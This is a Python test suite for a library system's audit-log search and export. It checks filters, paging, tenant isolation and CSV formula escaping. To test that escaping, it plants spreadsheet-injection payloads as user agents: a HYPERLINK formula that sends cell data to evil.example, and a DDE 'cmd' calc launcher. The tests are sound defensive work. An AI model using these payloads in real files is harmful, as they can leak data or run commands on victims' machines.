"""Audit search and export as an institution's auditor sees them: every filter narrows, pages cover the
trail once, exports parse back and are safe to open in a spreadsheet, another institution never shows,
and every search, export and refusal is itself in the trail.

Other routes may write more events over time; these tests only assert about requests they made
themselves, each sent with its own X-Request-ID.
"""

from __future__ import annotations

import csv
import io
import json
import stat
import uuid
from datetime import UTC, datetime

import pytest
from typer.testing import CliRunner

from bookwarden.audit import record as audit
from bookwarden.audit import search
from bookwarden.audit.events import Action, Outcome
from bookwarden.audit.search import FIELDS, EventQuery, ExportFormat, Order
from bookwarden.core.csv_safety import FORMULA_STARTS
from bookwarden.core.permissions import LIBRARY_READ, LIBRARY_WRITE, Permission
from bookwarden.core.principal import Principal, PrincipalKind
from bookwarden.db.session import platform_session, tenant_session
from bookwarden.tenancy import service as tenancy
from tests.e2e.test_cli import cli_env, granted  # noqa: F401 - the CLI pointed at the test database
from tests.helpers import acting

EVENTS = "/api/v1/audit/events"
EXPORT = "/api/v1/audit/events/export"
PATRON = {"name": "Ada Reader", "email": "ada@example.org"}


def rid() -> str:
    return str(uuid.uuid4())


def call(client, method: str, path: str, **kw):
    """One request under a request id of its own; returns (response, request id)."""
    response = client.request(method, path, headers={"X-Request-ID": rid(), **kw.pop("headers", {})}, **kw)
    return response, response.headers["x-request-id"]


def everything(auditor, **params) -> list[dict]:
    """Every event matching `params`, following next_cursor to the end."""
    found, cursor = [], None
    while True:
        page = auditor.get(EVENTS, params={**params, "limit": 1000, **({"cursor": cursor} if cursor else {})})
        assert page.status_code == 200, page.text
        found += page.json()["items"]
        cursor = page.json()["next_cursor"]
        if cursor is None:
            return found


def by_request(events: list[dict]) -> dict[str, list[dict]]:
    grouped: dict[str, list[dict]] = {}
    for event in events:
        grouped.setdefault(event["request_id"], []).append(event)
    return grouped


@pytest.fixture
def traffic(client_for, tenant):
    """Two clerks at work and one refused request, in this order: clerk A creates a patron, clerk B
    views it and creates another, a read-only token tries to create one (403), clerk B asks for an
    unknown patron (404). Returns the request ids, the patrons' ids and the clerks' token ids."""
    clerk_a = client_for(tenant, permissions=LIBRARY_READ | LIBRARY_WRITE)
    clerk_b = client_for(tenant, permissions=LIBRARY_READ | LIBRARY_WRITE)
    reader = client_for(tenant, permissions=LIBRARY_READ)
    auditor = client_for(tenant, permissions={Permission.AUDIT_READ})
    created_a, a_create = call(clerk_a, "POST", "/api/v1/patrons", json=PATRON)
    first = created_a.json()["id"]
    viewed, b_view = call(clerk_b, "GET", f"/api/v1/patrons/{first}")
    created_b, b_create = call(clerk_b, "POST", "/api/v1/patrons", json={"name": "Ben Borrower"})
    denied, c_denied = call(reader, "POST", "/api/v1/patrons", json={"name": "Refused"})
    missing, b_missing = call(clerk_b, "GET", f"/api/v1/patrons/{uuid.uuid4()}")
    assert [r.status_code for r in (created_a, viewed, created_b, denied, missing)] == [201, 200, 201, 403, 404]
    mine = by_request(everything(auditor))
    return {
        "auditor": auditor,
        "requests": {"a_create": a_create, "b_view": b_view, "b_create": b_create, "denied": c_denied},
        "missing": b_missing,
        "first": first,
        "second": created_b.json()["id"],
        "clerk_a": mine[a_create][0]["actor_id"],
        "clerk_b": mine[b_view][0]["actor_id"],
        "events": mine,
    }


# -- filters -------------------------------------------------------------------------------


def test_every_event_carries_the_fields_an_auditor_needs(traffic):
    event = next(e for e in traffic["events"][traffic["requests"]["a_create"]] if e["action"] == "patron.created")
    assert list(event) == list(FIELDS)
    assert event["actor_kind"] == "api_token" and event["actor_id"] == traffic["clerk_a"]
    assert (event["target_kind"], event["target_id"], event["outcome"]) == ("patron", traffic["first"], "succeeded")
    assert event["source_address"] and event["user_agent"] == "testclient"
    assert len(bytes.fromhex(event["hash"])) == 32
    assert datetime.fromisoformat(event["occurred_at"]).tzinfo is not None
    assert "Ada" not in json.dumps(event)  # ids and field names, never the values


def test_actor_filters_narrow_to_that_actor(traffic):
    auditor, asked = traffic["auditor"], traffic["requests"]
    by_a = everything(auditor, actor_id=traffic["clerk_a"])
    assert by_a and {e["actor_id"] for e in by_a} == {traffic["clerk_a"]}
    assert asked["a_create"] in by_request(by_a)
    assert not {asked["b_view"], asked["b_create"], asked["denied"]} & set(by_request(by_a))

    tokens = everything(auditor, actor_kind="api_token")
    assert {e["actor_kind"] for e in tokens} == {"api_token"}
    assert set(asked.values()) <= set(by_request(tokens))
    assert not set(asked.values()) & set(by_request(everything(auditor, actor_kind="account")))


def test_action_filter_is_exact_or_a_prefix_ending_in_a_dot(traffic):
    auditor, asked = traffic["auditor"], traffic["requests"]
    viewed = everything(auditor, action="patron.viewed")
    assert {e["action"] for e in viewed} == {"patron.viewed"}
    assert set(by_request(viewed)) & set(asked.values()) == {asked["b_view"]}

    patrons = everything(auditor, action="patron.")
    assert patrons and all(e["action"].startswith("patron.") for e in patrons)
    assert {asked["a_create"], asked["b_view"], asked["b_create"]} <= set(by_request(patrons))
    assert {e["action"] for e in patrons} >= {"patron.created", "patron.viewed"}
    assert everything(auditor, action="patron") == []  # no dot: an exact name, and no action is called that


def test_target_filters_narrow_to_one_record(traffic):
    auditor, asked = traffic["auditor"], traffic["requests"]
    first = everything(auditor, target_kind="patron", target_id=traffic["first"])
    assert first and {(e["target_kind"], e["target_id"]) for e in first} == {("patron", traffic["first"])}
    assert set(by_request(first)) >= {asked["a_create"], asked["b_view"]}
    assert asked["b_create"] not in by_request(first)
    assert {e["target_kind"] for e in everything(auditor, target_kind="patron")} == {"patron"}


def test_outcome_filter_finds_the_refusals(traffic):
    auditor, asked = traffic["auditor"], traffic["requests"]
    denied = everything(auditor, outcome="denied")
    assert {e["outcome"] for e in denied} == {"denied"}
    refusal = by_request(denied)[asked["denied"]][0]
    assert refusal["action"] == "access.denied" and refusal["details"]["permission"] == "patrons.write"
    failed = everything(auditor, outcome="failed")
    assert {e["outcome"] for e in failed} == {"failed"} and traffic["missing"] in by_request(failed)
    assert not set(asked.values()) & set(by_request(failed))


def test_time_range_is_from_inclusive_to_exclusive(traffic):
    auditor, asked = traffic["auditor"], traffic["requests"]
    boundary = min(e["occurred_at"] for e in traffic["events"][asked["b_view"]])
    after = set(by_request(everything(auditor, **{"from": boundary})))
    before = set(by_request(everything(auditor, to=boundary)))
    assert {asked["b_view"], asked["b_create"], asked["denied"]} <= after and asked["a_create"] not in after
    assert asked["a_create"] in before and not {asked["b_view"], asked["b_create"]} & before
    window = everything(auditor, **{"from": boundary, "to": boundary.replace("Z", "+00:00")})
    assert window == []  # an empty range, not an error


def test_filters_combine(traffic):
    auditor, asked = traffic["auditor"], traffic["requests"]
    found = everything(auditor, actor_id=traffic["clerk_b"], action="patron.created")
    assert {(e["actor_id"], e["action"]) for e in found} == {(traffic["clerk_b"], "patron.created")}
    assert set(by_request(found)) == {asked["b_create"]}


def test_newest_or_oldest_first(traffic):
    auditor = traffic["auditor"]
    newest = [e["seq"] for e in everything(auditor)]
    oldest = [e["seq"] for e in everything(auditor, order="oldest")]
    assert newest == sorted(newest, reverse=True)
    assert oldest == sorted(oldest)
    assert set(newest) <= set(oldest)  # the later search sees the first one's own event too


# -- pages ---------------------------------------------------------------------------------


@pytest.mark.parametrize("order", ["newest", "oldest"])
def test_pages_cover_every_event_exactly_once(client_for, tenant, order):
    from tests.helpers import populate

    clerk = client_for(tenant)
    for n in range(3):
        populate(clerk, n)
    auditor = client_for(tenant, permissions={Permission.AUDIT_READ})
    seqs, cursor, pages = [], None, 0
    while True:
        params = {"limit": 4, "order": order, **({"cursor": cursor} if cursor is not None else {})}
        page = auditor.get(EVENTS, params=params).json()
        assert len(page["items"]) <= 4
        seqs += [e["seq"] for e in page["items"]]
        pages += 1
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert len(seqs) == len(set(seqs)) >= 18
    # The chain has no gaps: the pages hold 1..n, each once. Newest first starts below the pages'
    # own search events; oldest first ends up reading them too (they are appended as it goes).
    assert sorted(seqs) == list(range(1, max(seqs) + 1))
    assert seqs == sorted(seqs, reverse=order == "newest")
    assert pages == -(-len(seqs) // 4)  # every page full but the last


def test_a_filtered_search_pages_to_the_same_events_as_one_big_page(client_for, tenant):
    from tests.helpers import populate

    clerk = client_for(tenant)
    for n in range(4):
        populate(clerk, n)
    auditor = client_for(tenant, permissions={Permission.AUDIT_READ})
    whole = auditor.get(EVENTS, params={"action": "patron.", "limit": 1000}).json()
    paged, cursor = [], None
    while True:
        page = auditor.get(
            EVENTS, params={"action": "patron.", "limit": 3, **({"cursor": cursor} if cursor else {})}
        ).json()
        paged += page["items"]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert whole["next_cursor"] is None
    assert [e["id"] for e in paged] == [e["id"] for e in whole["items"]]


# -- exports -------------------------------------------------------------------------------


def test_jsonl_export_holds_the_matching_events_one_object_a_line(traffic):
    auditor = traffic["auditor"]
    expected = everything(auditor, action="patron.", order="oldest")
    response, request_id = call(
        auditor, "GET", EXPORT, params={"format": "jsonl", "action": "patron.", "order": "oldest"}
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/x-ndjson")
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    assert response.headers["content-disposition"].endswith('.jsonl"')
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert response.text.endswith("\n")
    assert [{**e, "occurred_at": None} for e in lines] == [{**e, "occurred_at": None} for e in expected]
    assert [datetime.fromisoformat(e["occurred_at"]) for e in lines] == [
        datetime.fromisoformat(e["occurred_at"]) for e in expected
    ]
    recorded = by_request(everything(auditor, action="audit.exported"))[request_id]
    assert [e["details"] for e in recorded] == [
        {"action": "patron.", "order": "oldest", "format": "jsonl", "rows": len(lines), "completed": True}
    ]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1+1)", "-2+3", "@SUM(A1)"]


def test_csv_export_parses_back_and_no_cell_runs_as_a_formula(client_for, tenant, traffic):
    auditor = traffic["auditor"]
    stranger = client_for(tenant, permissions=LIBRARY_READ)
    planted = {}
    for agent in FORMULAS:  # refused requests: the user agent lands in the trail all the same
        response, request_id = call(
            stranger, "DELETE", f"/api/v1/patrons/{uuid.uuid4()}", headers={"User-Agent": agent}
        )
        assert response.status_code == 403
        planted[request_id] = agent
    response = auditor.get(EXPORT, params={"format": "csv", "order": "oldest"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].endswith('.csv"')
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == list(FIELDS) and list(FIELDS) not in rows[1:]
    assert all(len(row) == len(FIELDS) for row in rows)
    events = [dict(zip(FIELDS, row, strict=True)) for row in rows[1:]]
    assert [int(e["seq"]) for e in events] == sorted(int(e["seq"]) for e in events)
    agents = {e["request_id"]: e["user_agent"] for e in events if e["request_id"] in planted}
    assert agents == {request_id: "'" + agent for request_id, agent in planted.items()}
    for event in events:
        assert isinstance(json.loads(event["details"]), dict)
        assert not any(cell.startswith(FORMULA_STARTS) for cell in event.values())
    ordinary = next(e for e in events if e["request_id"] == traffic["requests"]["a_create"])
    assert ordinary["user_agent"] == "testclient" and ordinary["grant_id"] == ""


def test_an_export_the_reader_stops_early_is_still_recorded_with_the_rows_it_sent(db, tenant, monkeypatch):
    who = Principal(PrincipalKind.API_TOKEN, uuid.uuid4(), tenant.id, frozenset({Permission.AUDIT_READ}))
    with tenant_session(db, tenant.id) as session:
        for _ in range(7):
            audit.record(session, Action.PATRON_VIEWED, ("patron", uuid.uuid4()), actor=who)
    monkeypatch.setattr(search, "EXPORT_BATCH", 2)
    context = audit.Context(who, "192.0.2.9", "exporter", rid())
    chunks = search.export(db, lambda: tenant_session(db, tenant.id), EventQuery(), ExportFormat.JSONL, context)
    assert next(chunks) == b""  # JSON lines have no header
    assert len(next(chunks).splitlines()) == 2
    assert len(next(chunks).splitlines()) == 2
    chunks.close()
    with tenant_session(db, tenant.id) as session:
        page = search.search(session, EventQuery(action="audit.exported"))
    [event] = page.events
    assert event["details"] == {"order": "newest", "format": "jsonl", "rows": 4, "completed": False}
    assert (event["actor_id"], event["request_id"]) == (who.id, context.request_id)


def test_an_export_of_a_suspended_institution_is_refused_before_any_row(db, tenant, client_for):
    auditor = client_for(tenant, permissions={Permission.AUDIT_READ})
    with platform_session(db) as session:
        tenancy.suspend_tenant(session, acting(None, Permission.PLATFORM_TENANTS_MANAGE), tenant.id, "contract ended")
    response = auditor.get(EXPORT, params={"format": "csv"})
    assert response.status_code == 403
    assert response.json()["type"] == "urn:bookwarden:problem:tenant-suspended"


# -- who may search, and the trail of searching --------------------------------------------


def test_a_search_is_recorded_with_its_filters_and_what_it_returned(traffic):
    auditor = traffic["auditor"]
    params = {"actor_id": traffic["clerk_a"], "action": "patron.", "outcome": "succeeded", "limit": 50}
    response, request_id = call(auditor, "GET", EVENTS, params=params)
    assert response.status_code == 200
    [event] = by_request(everything(auditor, action="audit.searched"))[request_id]
    assert event["details"] == {
        "actor_id": traffic["clerk_a"],
        "action": "patron.",
        "outcome": "succeeded",
        "order": "newest",
        "limit": 50,
        "returned": len(response.json()["items"]),
    }
    assert event["actor_kind"] == "api_token" and event["outcome"] == "succeeded"


@pytest.mark.parametrize("path", [EVENTS, EXPORT])
def test_a_caller_without_audit_read_is_refused_and_the_refusal_is_in_the_trail(client_for, tenant, path):
    clerk = client_for(tenant, permissions=LIBRARY_READ | LIBRARY_WRITE | {Permission.ACCOUNTS_READ})
    response, request_id = call(clerk, "GET", path, params={"action": "patron."})
    assert response.status_code == 403
    assert response.headers["content-type"] == "application/problem+json"
    assert "audit.read" in response.json()["detail"]
    auditor = client_for(tenant, permissions={Permission.AUDIT_READ})
    [refusal] = by_request(everything(auditor, outcome="denied"))[request_id]
    assert refusal["action"] == "access.denied"
    assert refusal["details"] == {"method": "GET", "route": path, "problem": "forbidden", "permission": "audit.read"}


def test_operator_tokens_reach_no_audit_trail(app, operator_token):
    from fastapi.testclient import TestClient

    operator = TestClient(app, raise_server_exceptions=False, headers={"Authorization": f"Bearer {operator_token}"})
    assert operator.get(EVENTS).status_code == 403
    assert operator.get(EXPORT).status_code == 403


def test_another_institutions_events_never_appear_whatever_the_filters(client_for, tenant, other_tenant, traffic):
    from tests.helpers import populate

    theirs_clerk = client_for(other_tenant)
    populate(theirs_clerk)
    call(client_for(other_tenant, permissions=LIBRARY_READ), "POST", "/api/v1/patrons", json={"name": "x"})
    their_auditor = client_for(other_tenant, permissions={Permission.AUDIT_READ})
    theirs = everything(their_auditor)
    assert theirs
    their_ids = {e["id"] for e in theirs}
    their_actor = next(e["actor_id"] for e in theirs if e["action"] == "patron.created")
    their_patron = next(e["target_id"] for e in theirs if e["action"] == "patron.created")
    auditor = traffic["auditor"]
    filter_sets = [
        {},
        {"actor_id": their_actor},
        {"target_id": their_patron},
        {"target_kind": "patron", "target_id": their_patron, "action": "patron.created"},
        {"action": "patron."},
        {"outcome": "denied"},
        {"actor_kind": "api_token", "order": "oldest"},
        {"from": "2000-01-01T00:00:00Z", "to": "2100-01-01T00:00:00Z"},
    ]
    for filters in filter_sets:
        ours = everything(auditor, **filters)
        assert not {e["id"] for e in ours} & their_ids, filters
        exported = auditor.get(EXPORT, params=filters).text.splitlines()
        assert not {json.loads(line)["id"] for line in exported} & their_ids, filters
    assert everything(auditor, actor_id=their_actor) == []
    assert everything(auditor, target_id=their_patron) == []


@pytest.mark.parametrize(
    "params",
    [
        {"limit": 0},
        {"limit": 1001},
        {"cursor": -1},
        {"action": "Patron.Viewed"},
        {"action": "patron..viewed"},
        {"outcome": "maybe"},
        {"order": "random"},
        {"from": "yesterday"},
        {"from": "2026-01-01T00:00:00"},  # a time without an offset is ambiguous
        {"actor_id": "not-an-id"},
        {"format": "xlsx"},
    ],
)
def test_bad_parameters_are_refused_clearly(traffic, params):
    path = EXPORT if "format" in params else EVENTS
    response = traffic["auditor"].get(path, params=params)
    assert response.status_code == 422
    assert response.json()["type"] == "urn:bookwarden:problem:validation-error"


def test_query_details_name_the_filters_given_only():
    since = datetime(2026, 3, 1, tzinfo=UTC)
    actor = uuid.uuid4()
    query = EventQuery(actor_id=actor, outcome=Outcome.DENIED, since=since, order=Order.OLDEST)
    assert query.details() == {
        "actor_id": str(actor),
        "outcome": "denied",
        "since": "2026-03-01T00:00:00+00:00",
        "order": "oldest",
    }


# -- the console -----------------------------------------------------------------------------


def test_console_search_writes_a_private_file_and_is_recorded(cli_env, committed_db, committed_tenant, tmp_path):  # noqa: F811
    from bookwarden.cli import app

    tenant_id = committed_tenant()
    who = Principal(PrincipalKind.API_TOKEN, uuid.uuid4(), tenant_id, frozenset())
    context = audit.Context(who, "192.0.2.4", "=cmd|' /C calc'!A0", rid())
    with audit.acting(context), tenant_session(committed_db, tenant_id) as session:
        audit.record(session, Action.PATRON_VIEWED, ("patron", uuid.uuid4()))
        audit.record(session, Action.LOAN_VIEWED, ("loan", uuid.uuid4()))
    with platform_session(committed_db) as session:
        slug = tenancy.get_tenant(session, tenant_id).slug
    runner = CliRunner()
    target = tmp_path / "trail.csv"
    args = ["audit", "search", "--tenant", slug, "--action", "patron.", "--format", "csv", "--output", str(target)]
    result = runner.invoke(app, granted(committed_db, args))
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    rows = list(csv.DictReader(io.StringIO(target.read_text())))
    assert [(r["action"], r["user_agent"]) for r in rows] == [("patron.viewed", "'=cmd|' /C calc'!A0")]

    result = runner.invoke(
        app, granted(committed_db, ["audit", "search", "--tenant", str(tenant_id), "--order", "oldest"])
    )
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    ours = [e["action"] for e in lines if e["action"] in ("patron.viewed", "loan.viewed", "audit.searched")]
    assert ours == ["patron.viewed", "loan.viewed", "audit.searched"]  # this search's own event comes after

    with tenant_session(committed_db, tenant_id) as session:
        searches = search.search(session, EventQuery(action="audit.searched", order=Order.OLDEST)).events
    assert [e["details"] for e in searches] == [
        {"action": "patron.", "order": "newest", "format": "csv", "rows": 1, "completed": True},
        {"order": "oldest", "format": "jsonl", "rows": len(lines), "completed": True},
    ]
    assert {e["actor_kind"] for e in searches} == {"console"}  # the operator the console is mapped to

    refused = runner.invoke(app, granted(committed_db, ["audit", "search", "--tenant", slug, "--from", "last week"]))
    assert refused.exit_code == 2 and "--from" in refused.output
    refused = runner.invoke(app, granted(committed_db, ["audit", "search", "--tenant", slug, "--format", "xlsx"]))
    assert refused.exit_code == 2 and "jsonl, csv" in refused.output


def test_an_action_prefix_matches_literally_not_as_a_pattern(db, tenant):
    import dataclasses

    who = Principal(PrincipalKind.API_TOKEN, uuid.uuid4(), tenant.id, frozenset())
    with tenant_session(db, tenant.id) as session:
        listed = audit.record(session, Action.READING_LIST_LISTED, actor=who)
        # "_" is a LIKE wildcard: an action that differs just there must not match the prefix.
        lookalike = dataclasses.replace(listed, id=uuid.uuid4(), action="readingXlist.listed")
        session.info[audit.PENDING].append(lookalike)
    with tenant_session(db, tenant.id) as session:
        found = search.search(session, EventQuery(action="reading_list.")).events
        assert [e["action"] for e in found] == ["reading_list.listed"]
        assert [e["id"] for e in search.search(session, EventQuery(action="readingXlist.")).events] == [lookalike.id]
